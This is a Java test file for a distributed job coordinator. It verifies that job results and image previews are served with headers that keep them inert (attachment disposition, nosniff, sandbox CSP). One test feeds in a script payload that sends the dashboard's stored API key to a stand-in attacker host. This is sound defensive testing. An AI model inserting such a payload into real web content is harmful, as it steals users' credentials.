package org.enjambre.coordinator;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Results and previews are never active content on the coordinator's origin (issue 13): a worker controls
 * the bytes of a result (replicas 1), and a job spec its declared content type.
 */
class ResultServingTest extends SwarmTest {
    private static final String CSP = "default-src 'none'; sandbox";

    @Test
    void result_ofAMaliciousWorker_declaredTextHtml_servedAsInertAttachment() throws Exception {
        coordinator = Coordinator.start(Harness.options(dir));
        String url = coordinator.url();
        byte[] module = Files.readAllBytes(Path.of("..", "workunits", "target", "wasm", "primes.wasm"));
        Harness.Response up = Harness.callBytes("POST", url + "/api/v1/modules", Harness.KEY, module);
        assertThat(up.status()).as(up.body()).isEqualTo(201);
        String sha = up.json().get("sha256").asText();
        String job = Harness.submit(url, "{\"app\":\"wasm\",\"input\":{\"module\":\"" + sha + "\",\"inputs\":[{\"x\":1}],"
                + "\"merge\":\"concat\",\"contentType\":\"text/html\"},\"redundancy\":{\"replicas\":1,\"quorum\":1}}");

        // The one worker of the unit answers with a page that would read the dashboard's API key.
        byte[] page = "<script>fetch('//evil.example/'+localStorage['enjambre.apiKey'])</script>".getBytes(StandardCharsets.UTF_8);
        Harness.Registered evil = Harness.register(url, "evil", "wasm");
        JsonNode task = Harness.fetch(url, evil.token(), 1).json().get("tasks").get(0);
        assertThat(Harness.report(url, evil.token(), Map.of(task.get("id").asText(), page)).json().get("accepted")).hasSize(1);
        Harness.awaitJob(url, job, "COMPLETED", Duration.ofSeconds(30));

        HttpResponse<byte[]> r = Harness.bytes(url + "/api/v1/jobs/" + job + "/result", null);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).isEqualTo(page);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
        assertThat(r.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"" + job + ".bin\"");
        assertThat(r.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(r.headers().firstValue("Content-Security-Policy")).hasValue(CSP);
    }

    /**
     * A small result is answered from the completing peer's memory (on the event loop), a restarted peer's from the
     * store: the same bytes and headers either way.
     */
    @Test
    void result_fromMemoryAfterCompletion_sameAsFromTheStoreAfterARestart() {
        coordinator = Coordinator.start(Harness.options(dir));
        String url = coordinator.url();
        String job = Harness.submit(url, Harness.primesSpec(2, 10_000, 4, 1, 1, null));
        TestWorker honest = new TestWorker(url, "honest", TestWorker.Behaviour.HONEST);
        workers.add(honest);
        Harness.awaitJob(url, job, "COMPLETED", Duration.ofSeconds(60));
        HttpResponse<byte[]> kept = Harness.bytes(url + "/api/v1/jobs/" + job + "/result", null);
        assertThat(kept.statusCode()).isEqualTo(200);
        assertThat(new String(kept.body(), StandardCharsets.UTF_8)).contains("1229"); // primes below 10,000

        honest.close();
        coordinator.close();
        coordinator = Coordinator.start(Harness.options(dir));
        HttpResponse<byte[]> stored = Harness.bytes(coordinator.url() + "/api/v1/jobs/" + job + "/result", null);
        assertThat(stored.statusCode()).isEqualTo(200);
        assertThat(stored.body()).isEqualTo(kept.body());
        for (String h : new String[]{"Content-Type", "Content-Disposition", "X-Content-Type-Options", "Content-Security-Policy"}) {
            assertThat(stored.headers().firstValue(h)).as(h).isEqualTo(kept.headers().firstValue(h));
        }
        HttpResponse<byte[]> missing = Harness.bytes(coordinator.url() + "/api/v1/jobs/j-nosuchjob/result", null);
        assertThat(missing.statusCode()).isEqualTo(404);
    }

    @Test
    void jsonResultAndPngPreview_servedInline_withNosniffAndASandboxCsp() {
        coordinator = Coordinator.start(Harness.options(dir));
        String url = coordinator.url();
        String noop = Harness.submit(url, "{\"app\":\"noop\",\"input\":{},\"workUnits\":2,\"redundancy\":{\"replicas\":1,\"quorum\":1}}");
        String image = Harness.submit(url, "{\"app\":\"mandelbrot\",\"input\":{\"width\":16,\"height\":16,\"xMin\":-2,"
                + "\"xMax\":1,\"yMin\":-1.5,\"yMax\":1.5,\"maxIterations\":50},\"workUnits\":2,\"redundancy\":{\"replicas\":1,\"quorum\":1}}");
        workers.add(new TestWorker(url, "honest", TestWorker.Behaviour.HONEST));
        Harness.awaitJob(url, noop, "COMPLETED", Duration.ofSeconds(60));
        Harness.awaitJob(url, image, "COMPLETED", Duration.ofSeconds(60));

        HttpResponse<byte[]> json = Harness.bytes(url + "/api/v1/jobs/" + noop + "/result", null);
        assertThat(json.headers().firstValue("Content-Type")).hasValue("application/json");
        assertThat(json.headers().firstValue("Content-Disposition")).isEmpty();
        assertThat(json.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(json.headers().firstValue("Content-Security-Policy")).hasValue(CSP);

        for (String path : new String[]{"/result", "/preview.png"}) {
            HttpResponse<byte[]> png = Harness.bytes(url + "/api/v1/jobs/" + image + path, null);
            assertThat(png.statusCode()).as(path).isEqualTo(200);
            assertThat(png.headers().firstValue("Content-Type")).as(path).hasValue("image/png");
            assertThat(png.headers().firstValue("X-Content-Type-Options")).as(path).hasValue("nosniff");
            assertThat(png.headers().firstValue("Content-Security-Policy")).as(path).hasValue(CSP);
            assertThat(png.body()).as(path).startsWith(0x89, 'P', 'N', 'G');
        }
    }
}
